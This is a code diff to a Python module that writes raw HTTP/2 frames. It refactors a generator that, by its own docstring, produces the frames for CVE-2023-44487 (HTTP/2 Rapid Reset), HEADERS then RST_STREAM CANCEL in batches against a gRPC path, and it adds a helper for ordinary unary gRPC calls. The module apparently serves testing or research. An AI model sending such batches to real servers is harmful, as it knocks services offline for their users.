@@ -5,7 +5,7 @@ from __future__ import annotations
 
 import socket
 import struct
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterable, Iterator
 
 from hpack import Encoder
 
@@ -60,11 +60,9 @@ def read_frames(sock: socket.socket, on_frame: OnFrame) -> bool:
         return True
 
 
-def rapid_reset_batches(path: str, streams: int, batch_streams: int) -> Iterator[bytes]:
-    """CVE-2023-44487's frames: for each stream its HEADERS (a gRPC call of `path`) then its
-    RST_STREAM CANCEL, `batch_streams` streams to a batch."""
-    encoder = Encoder()
-    headers = [
+def grpc_request_headers(path: str) -> list[tuple[str, str]]:
+    """The headers of a gRPC call of `path`, as a client sends them."""
+    return [
         (":method", "POST"),
         (":scheme", "http"),
         (":path", path),
@@ -72,6 +70,24 @@ def rapid_reset_batches(path: str, streams: int, batch_streams: int) -> Iterator
         ("content-type", "application/grpc"),
         ("te", "trailers"),
     ]
+
+
+def unary_calls(path: str, stream_ids: Iterable[int], encoder: Encoder) -> bytes:
+    """For each stream, a gRPC call of `path` with an empty request message: HEADERS, then DATA
+    with END_STREAM."""
+    headers = grpc_request_headers(path)
+    frames = []
+    for stream_id in stream_ids:
+        frames.append(frame(HEADERS, END_HEADERS, stream_id, encoder.encode(headers)))
+        frames.append(frame(DATA, END_STREAM, stream_id, b"\x00\x00\x00\x00\x00"))
+    return b"".join(frames)
+
+
+def rapid_reset_batches(path: str, streams: int, batch_streams: int) -> Iterator[bytes]:
+    """CVE-2023-44487's frames: for each stream its HEADERS (a gRPC call of `path`) then its
+    RST_STREAM CANCEL, `batch_streams` streams to a batch."""
+    encoder = Encoder()
+    headers = grpc_request_headers(path)
     first = encoder.encode(headers)
     # After the first block every header is in the dynamic table: each later block is the same.
     repeated = encoder.encode(headers)
